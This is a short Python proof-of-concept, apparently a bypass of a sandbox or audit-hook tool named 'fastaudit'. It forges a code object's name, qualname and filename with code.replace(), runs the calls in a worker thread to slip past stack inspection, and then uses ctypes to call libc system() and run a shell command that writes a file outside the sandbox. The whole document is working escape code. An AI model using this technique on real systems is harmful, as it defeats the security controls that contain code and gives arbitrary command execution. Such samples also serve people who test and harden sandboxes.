# code.replace() (forged names and qualnames got fastaudit's trust), called in a thread without a cell on the stack.
# says: ctypes
import sys
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
call = lambda function, *arguments, **keywords: pool.submit(function, *arguments, **keywords).result()
builtin = vars(sys.modules["builtins"])

import types, os
lambda_code = call(getattr, lambda: CDLL(None).system(b"touch " + outside.encode() + b"/evil"), "__code__")
code = call(lambda_code.replace, co_name="call", co_qualname="call", co_filename=os.__file__)
import ctypes
function = call(types.FunctionType, code, {"__builtins__": builtin, "CDLL": ctypes.CDLL, "outside": outside})
call(function)
